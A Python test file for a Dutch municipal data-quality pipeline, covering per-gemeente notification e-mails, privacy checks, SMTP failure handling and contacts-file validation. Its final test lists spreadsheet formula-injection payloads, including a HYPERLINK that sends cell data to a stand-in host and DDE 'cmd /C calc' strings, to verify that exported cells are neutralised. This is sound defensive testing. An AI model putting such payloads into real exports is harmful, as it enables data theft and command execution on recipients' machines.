"""The mails after a run, received by a real SMTP server on localhost (aiosmtpd).

Who gets a mail, to which addresses, with whose records; never an identifier
or a birth date; no mail when nothing changed since the last mail; what changed
since then; a server that is down is recorded, never raised.
"""

from __future__ import annotations

import re
import shutil

import pytest
from aiosmtpd.controller import Controller

from regie.quality import contacten, scorecard_text, tasks
from regie.quality.catalogus import laad_controles
from regie.warehouse import connect

from conftest import TEST_KEY
from privacy import hits_in_text, needles
from quality_support import (
    ADRES,
    LEVERING,
    PEILDATUM,
    Postbus,
    Route,
    free_port,
    identify,
    ingest,
    personen,
    scenario,
    write_landing,
)

LV, VOORSCHOTEN, WASSENAAR, LEIDEN, OEGSTGEEST = "GM1916", "GM0626", "GM0629", "GM0546", "GM0579"
#: check code -> the Dutch name a mail shows (the code never appears in a mail)
NAAM = {c.code: c.naam for c in laad_controles()}
BEREIK = {
    LV: {LV, VOORSCHOTEN, WASSENAAR},
    VOORSCHOTEN: {VOORSCHOTEN},
    WASSENAAR: {WASSENAAR},
    LEIDEN: {LEIDEN, OEGSTGEEST},
    OEGSTGEEST: {OEGSTGEEST},
}


@pytest.fixture
def postbus(monkeypatch):
    box = Postbus()
    port = free_port()
    controller = Controller(box, hostname="127.0.0.1", port=port)
    controller.start()
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", f"smtp://127.0.0.1:{port}?retry_limit=2&retry_delay=0")
    try:
        yield box
    finally:
        controller.stop()


def _contacten(path, codes=tuple(ADRES)) -> str:
    lines = ["afzender: 'regie <regie@example.nl>'", "gemeenten:"]
    lines += [f"  {c}: [{ADRES[c]}]" for c in codes]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return str(path)


@pytest.fixture(scope="module")
def run1(tmp_path_factory):
    """The scenario warehouse after run r1 (checks only; each test mails from its own copy)."""
    root = tmp_path_factory.mktemp("meldingen")
    with pytest.MonkeyPatch.context() as mp:
        mp.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
        sc = scenario(root / "landing")
        ingest(root / "landing", root / "home", root / "wh.duckdb")
    tasks.controleer(
        {
            "warehouse": str(root / "wh.duckdb"),
            "home": str(root / "home"),
            "peildatum": PEILDATUM,
            "run_id": "r1",
        }
    )
    return sc, root


@pytest.fixture
def params(run1, tmp_path):
    _, root = run1
    shutil.copy(root / "wh.duckdb", tmp_path / "wh.duckdb")
    return {
        "warehouse": str(tmp_path / "wh.duckdb"),
        "home": str(tmp_path / "home"),
        "peildatum": PEILDATUM,
        "run_id": "r1",
        "contacten": _contacten(tmp_path / "contacten.yml"),
    }


def _meldingen(warehouse: str) -> list[tuple]:
    with connect(warehouse, read_only=True) as wh:
        return wh.query(
            "select gemeentecode, aan, status, pogingen, fout, bevindingen, gemeenten from audit.meldingen "
            "order by gemeentecode"
        )


def test_each_gemeente_gets_one_mail_at_its_own_addresses(params, postbus):
    result = tasks.meld(params, "r1")
    # GM9999, a delivery folder named after no gemeente, has its finding but no address
    assert result == {"verzonden": 5, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 0}
    assert sorted(a for m in postbus.berichten for a in m.aan) == sorted(ADRES.values())
    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        assert mail.aan == [adres]
        assert mail.afzender == "regie@example.nl"
        assert f"({code})" in mail.onderwerp and "peildatum 25-02-2025" in mail.onderwerp
        assert list(mail.bijlagen()) == [f"bevindingen_{code}_2025-02-25.csv"]
    rows = _meldingen(params["warehouse"])
    assert [(r[0], r[2], r[3]) for r in rows] == [(c, "verzonden", 1) for c in sorted(ADRES)] + [
        ("GM9999", "geen_adres", 0)
    ]


def test_each_mail_holds_only_the_records_its_gemeente_may_read(params, postbus, run1):
    sc, _ = run1
    tasks.meld(params, "r1")
    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        rows = mail.rijen()
        assert rows, code
        assert {r["gemeentecode"] for r in rows} <= BEREIK[code], code
        # every planted record of the gemeenten in its reach that it may read, and nothing else
        for r in rows:
            if r["gemeentecode"] != code:  # another gemeente's record: inburgering only
                assert r["controle"] not in (
                    NAAM["taakstelling_correctie"],
                    NAAM["gerealiseerd_wijkt_af_van_tvs"],
                ), r
        text = mail.tekst
        for other, naam in ((LEIDEN, "Leiden"), (LV, "Leidschendam-Voorburg")):
            if other not in BEREIK[code]:
                assert f"{other} {naam}" not in text
    lv_rows = postbus.voor(ADRES[LV])[0].rijen()
    assert {r["gemeentecode"] for r in lv_rows} == {LV, VOORSCHOTEN, WASSENAAR}
    assert "F-zroute_zonder_participatie" in {r["klantnummer"] for r in lv_rows}  # Wassenaar, executed by LV
    v_rows = postbus.voor(ADRES[VOORSCHOTEN])[0].rijen()
    assert {r["controle"] for r in v_rows} >= {NAAM["taakstelling_correctie"], NAAM["brp_zonder_pip"]}
    assert NAAM["taakstelling_correctie"] not in {
        r["controle"] for r in lv_rows if r["gemeentecode"] == VOORSCHOTEN
    }
    o_rows = postbus.voor(ADRES[OEGSTGEEST])[0].rijen()
    assert {r["klantnummer"] for r in o_rows if r["klantnummer"]} == {
        "F-pip_zonder_leerroute",
        "F-duo_combinatie_ongeldig-O_A2",
        "F-duo_combinatie_ongeldig-Z_B1",
    }
    # COA's doubled half year: no klantnummer, the half year names it
    assert [(r["controle"], r["kenmerk"]) for r in o_rows if not r["klantnummer"]] == [
        (NAAM["tvs_periode_dubbel"], "periode 2024-I")
    ]
    # a housed person without a dossier has no klantnummer: the COA household names the record
    w = [
        r
        for r in postbus.voor(ADRES[WASSENAAR])[0].rijen()
        if r["controle"] == NAAM["gehuisvest_zonder_dossier"]
    ]
    assert len(w) == 1 and w[0]["klantnummer"] == "" and w[0]["kenmerk"].startswith("huishouden HH")
    # the DUO line ingestion rejected counts against DUO, which no gemeente is mailed about
    assert all(
        "duo/" not in r["bestand"]
        for m in postbus.berichten
        for r in m.rijen()
        if r["controle"] == NAAM["afgewezen_rijen"]
    )


def test_no_identifier_birth_date_or_pseudonym_in_any_mail(params, postbus, run1):
    sc, _ = run1
    tasks.meld(params, "r1")
    ids, dates = needles(sc.identifiers, sc.birth_dates)
    assert postbus.berichten
    for mail in postbus.berichten:
        everything = mail.bericht.as_string() + mail.tekst + "".join(mail.bijlagen().values())
        assert hits_in_text(everything, ids, dates) == [], mail.onderwerp
        assert not re.search(r"[0-9a-f]{64}", everything)
        assert "persoon_id" not in everything


def _plat(text: str) -> str:
    """The text with every line break and run of spaces as one space (the mail wraps its lines)."""
    return " ".join(text.split())


def test_the_mail_says_what_each_check_means_and_what_blocks(params, postbus):
    tasks.meld(params, "r1")
    text = _plat(postbus.voor(ADRES[LEIDEN])[0].tekst)
    assert "Als uitvoerder ontvangt u ook de bevindingen over de inburgering van Oegstgeest." in text
    assert "GM0546 Leiden: score" in text
    # Oegstgeest's card in its uitvoerder's mail: the inburgering checks' counts, no score
    assert (
        "GM0579 Oegstgeest: de inburgering die u uitvoert" in text and "GM0579 Oegstgeest: score" not in text
    )
    assert "- Meer dan een open dossier voor een persoon: Voor deze persoon staan twee" in text
    assert "Dit is de eerste mail van regie aan u." in text


def test_no_mail_when_there_is_nothing_to_say(tmp_path, postbus, monkeypatch):
    monkeypatch.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
    clean = identify([p for p in personen() if p.klantnummer.startswith("OK-")])
    write_landing(tmp_path / "landing", clean, afwijzingen=False)
    ingest(tmp_path / "landing", tmp_path / "home", tmp_path / "wh.duckdb")
    p = {
        "warehouse": str(tmp_path / "wh.duckdb"),
        "home": str(tmp_path / "home"),
        "peildatum": PEILDATUM,
        "contacten": _contacten(tmp_path / "c.yml"),
    }
    for run in ("schoon-1", "schoon-2"):
        tasks.controleer({**p, "run_id": run})
        assert tasks.meld({**p, "run_id": run}, run)["geen_melding"] == 5
    assert postbus.berichten == []
    text = scorecard_text(p["warehouse"], "schoon-2")
    assert "GM0626 Voorschoten: score 100,0%; 0 afgekeurd" in text


def test_what_changed_since_the_previous_run(run1, tmp_path, postbus, monkeypatch):
    """Run 2: LV fixed the hours, but a route of another client lost its taalaanbieder; Oegstgeest's
    problems were all solved (a re-delivery of the same date: a new version of each file)."""
    sc, root = run1
    monkeypatch.setenv("REGIE_PSEUDONIEM_SLEUTEL", TEST_KEY)
    shutil.copytree(root, tmp_path / "r", ignore=shutil.ignore_patterns("data_docs"))
    base = tmp_path / "r"
    p = {
        "warehouse": str(base / "wh.duckdb"),
        "home": str(base / "home"),
        "peildatum": PEILDATUM,
        "contacten": _contacten(tmp_path / "c.yml"),
    }
    assert tasks.meld({**p, "run_id": "r1"}, "r1")["verzonden"] == 5  # the mails of run r1
    postbus.berichten.clear()
    people = sc.personen
    by = {p.klantnummer: p for p in people}
    by["F-uren_buiten_bereik"].activiteiten[0].uren = "2000"
    by["F-pip_zonder_leerroute"].routes = [Route("B1", LEVERING.replace(month=1))]
    by["F-pip_zonder_leerroute"].duo_route, by["F-pip_zonder_leerroute"].duo_pip = ("B", "B1"), None
    by["F-duo_combinatie_ongeldig-O_A2"].duo_route = ("O", "B1")
    by["F-duo_combinatie_ongeldig-Z_B1"].duo_route = ("Z", None)
    by["OK-GM1916-2"].routes[0].taalaanbieder = None
    write_landing(
        base / "landing",
        people,
        gerealiseerd_extra={(WASSENAAR, "2024-I"): 1},
        correctie={(VOORSCHOTEN, "2024-II"): 3},
    )
    ingest(base / "landing", base / "home", base / "wh.duckdb", run_id="r2")
    tasks.controleer({**p, "run_id": "r2"})
    result = tasks.meld({**p, "run_id": "r2"}, "r2")
    # Voorschoten and Wassenaar: nothing new since their mail of run r1 (GM9999 has no address)
    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 1, "geen_melding": 2}
    assert sorted(a for m in postbus.berichten for a in m.aan) == sorted(
        ADRES[c] for c in (LV, LEIDEN, OEGSTGEEST)
    )

    (lv,) = postbus.voor(ADRES[LV])
    assert "Uren buiten 0-2000: 1 -> 0" in _plat(lv.tekst)
    assert "Leerroute gestart zonder taalaanbieder: 1 -> 2" in _plat(lv.tekst)
    assert "Sinds de vorige mail: 1 nieuwe en 1 opgeloste bevindingen." in lv.tekst
    assert re.search(r"sinds onze vorige mail van \d\d-\d\d-\d{4}\.", _plat(lv.tekst))
    rows = {r["klantnummer"]: r for r in lv.rijen()}
    assert rows["OK-GM1916-2"]["nieuw"] == "ja"
    assert rows["F-leerroute_zonder_taalaanbieder"]["nieuw"] == "nee"
    assert "F-uren_buiten_bereik" not in rows

    (oeg,) = postbus.voor(ADRES[OEGSTGEEST])
    assert oeg.onderwerp.endswith("alle bevindingen opgelost")
    assert oeg.rijen() == []
    assert "PIP zonder leerroute: 1 -> 0" in _plat(oeg.tekst)
    assert "TVS: halfjaar meer dan eens in één levering: 1 -> 0" in _plat(oeg.tekst)  # COA's file too
    assert "4 opgeloste" in oeg.tekst

    text = scorecard_text(p["warehouse"], "r2")
    assert "vergeleken met run r1" in text
    assert re.search(r"Leerroute gestart zonder taalaanbieder\s+2 van\s+\d+\s+\(was 1\)", text)


def test_smtp_down_is_recorded_as_undelivered_and_does_not_fail(params, monkeypatch):
    port = free_port()  # nothing listens here
    monkeypatch.setenv("AIRFLOW_CONN_SMTP_DEFAULT", f"smtp://127.0.0.1:{port}?retry_limit=2&retry_delay=0")
    result = tasks.meld(params, "r1")
    assert result["niet_afgeleverd"] == 5 and result["verzonden"] == 0
    rows = [r for r in _meldingen(params["warehouse"]) if r[0] != "GM9999"]  # no address: not tried
    assert len(rows) == 5
    for gm, aan, status, pogingen, fout, n, _ in rows:
        assert status == "niet_afgeleverd"
        # the first mail gets every retry; once the server proved unreachable, the rest one attempt
        assert pogingen == (2 if gm == LEIDEN else 1), gm
        assert "Connection" in fout or "refused" in fout.lower()
        assert aan == ADRES[gm] and n > 0


def test_no_smtp_connection_configured_is_recorded_too(params, monkeypatch):
    monkeypatch.delenv("AIRFLOW_CONN_SMTP_DEFAULT", raising=False)
    result = tasks.meld(params, "r1")
    assert result["niet_afgeleverd"] == 5
    assert all("smtp_default ontbreekt" in r[4] for r in _meldingen(params["warehouse"]) if r[0] != "GM9999")


def test_a_gemeente_without_address_is_recorded(params, postbus, tmp_path):
    p = {**params, "contacten": _contacten(tmp_path / "zonder.yml", codes=(LV, LEIDEN, OEGSTGEEST))}
    result = tasks.meld(p, "r1")
    assert result == {"verzonden": 3, "niet_afgeleverd": 0, "geen_adres": 3, "geen_melding": 0}
    status = {r[0]: r[2] for r in _meldingen(p["warehouse"])}
    assert status[VOORSCHOTEN] == status[WASSENAAR] == "geen_adres"


def test_contacts_file_is_checked(tmp_path, monkeypatch):
    f = tmp_path / "c.yml"
    f.write_text(
        "gemeenten:\n  '1916': {naam: LV, aan: [a@lv.example.nl, b@lv.example.nl]}\n  GM0626: x@v.example.nl\n"
    )
    book = contacten.laad(f)
    assert book.adressen("GM1916") == ("a@lv.example.nl", "b@lv.example.nl")
    assert book.adressen("GM0626") == ("x@v.example.nl",)
    assert book.adressen("GM0629") == ()
    monkeypatch.setenv("REGIE_CONTACTEN", str(f))
    assert contacten.pad(None) == f.resolve()
    for bad, why in (
        ("gemeenten:\n  GM19: [a@b.nl]\n", "not a gemeentecode"),
        ("gemeenten:\n  GM1916: [geen-adres]\n", "not an e-mail address"),
        ("gemeenten: [1, 2]\n", "must map each gemeentecode"),
    ):
        f.write_text(bad)
        with pytest.raises(contacten.ContactenFout, match=why):
            contacten.laad(f)
    with pytest.raises(contacten.ContactenFout, match="does not exist"):
        contacten.laad(tmp_path / "nergens.yml")


def test_the_example_contacts_file_is_valid():
    from conftest import ROOT

    book = contacten.laad(ROOT / "expectations" / "contacten.example.yml")
    assert set(book.gemeenten) == {LV, VOORSCHOTEN, WASSENAAR, LEIDEN, OEGSTGEEST}
    assert all(a.endswith("@example.nl") for c in book.gemeenten.values() for a in c.adressen)


def test_reach_comes_from_dim_gemeente_once_dbt_built_it(params):
    with connect(params["warehouse"]) as wh:
        assert contacten.uitvoering(wh, PEILDATUM) == {LV: {VOORSCHOTEN, WASSENAAR}, LEIDEN: {OEGSTGEEST}}
        wh.execute("create schema if not exists marts")
        wh.execute(
            "create table marts.dim_gemeente as select * from (values ('GM1916', 'GM1916'), ('GM0626', 'GM1916'), "
            "('GM0629', 'GM0629'), ('GM0546', 'GM0546'), ('GM0579', 'GM0546')) t(gemeentecode, uitvoerder_gemeentecode)"
        )
        # the dimension wins over the delivery folders: here Wassenaar executes its own inburgering
        assert contacten.uitvoering(wh, PEILDATUM) == {LV: {VOORSCHOTEN}, LEIDEN: {OEGSTGEEST}}
    assert contacten.mag_lezen(LV, VOORSCHOTEN, "inburgering", {LV: {VOORSCHOTEN}})
    assert not contacten.mag_lezen(LV, VOORSCHOTEN, "huisvesting", {LV: {VOORSCHOTEN}})
    assert not contacten.mag_lezen(VOORSCHOTEN, LV, "inburgering", {LV: {VOORSCHOTEN}})
    assert not contacten.mag_lezen(LV, None, "levering", {LV: {VOORSCHOTEN}})


# --- hostile records (issue 8) ------------------------------------------------------------


def test_a_record_goes_to_the_gemeente_that_delivered_it_whatever_its_woongemeente(params, postbus):
    """Leiden's own dossier V-buiten-uitvoering says woongemeente Voorschoten (which LV executes
    for): its findings go to Leiden, with a finding about the woongemeente itself, and to
    neither Voorschoten nor Leidschendam-Voorburg."""
    tasks.meld(params, "r1")

    def rijen(code):
        (mail,) = postbus.voor(ADRES[code])
        return [r for r in mail.rijen() if r["klantnummer"] == "V-buiten-uitvoering"]

    assert sorted((r["gemeentecode"], r["controle"]) for r in rijen(LEIDEN)) == [
        (LEIDEN, NAAM["pip_zonder_leerroute"]),
        (LEIDEN, NAAM["woongemeente_buiten_uitvoering"]),
    ]
    (finding,) = [r for r in rijen(LEIDEN) if r["controle"] == NAAM["woongemeente_buiten_uitvoering"]]
    assert finding["bevinding"] == "woongemeente GM0626 hoort niet bij de gemeenten van uitvoerder GM0546"
    assert rijen(VOORSCHOTEN) == [] and rijen(LV) == [] and rijen(OEGSTGEEST) == []
    # every municipal record in a mail was delivered by the recipient or by its uitvoerder
    from quality_support import UITVOERDER as uitvoerder_van

    for code, adres in ADRES.items():
        (mail,) = postbus.voor(adres)
        for r in mail.rijen():
            if r["bestand"].startswith("gemeente/"):
                assert r["bestand"].split("/")[1] in {code, uitvoerder_van[code]}, (code, r)


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
    ],  # fmt: skip
)
def test_attachment_cells_that_a_spreadsheet_would_run_are_neutralised(value):
    """OWASP's advice on CSV injection: a leading single quote, every cell quoted."""
    import csv
    import io

    from regie.quality.meldingen import CSV_KOLOMMEN, _csv

    row = dict.fromkeys(CSV_KOLOMMEN, "")
    row.update(klantnummer=value, bevinding=value, kenmerk=value, regel=7)
    data = _csv([row]).decode("utf-8-sig")
    (parsed,) = list(csv.DictReader(io.StringIO(data, newline=""), delimiter=";"))
    for col in ("klantnummer", "bevinding", "kenmerk"):
        assert parsed[col] == "'" + value, col
    assert parsed["regel"] == "7"  # numbers stay numbers
    assert data.splitlines()[1].startswith('"')  # every cell quoted
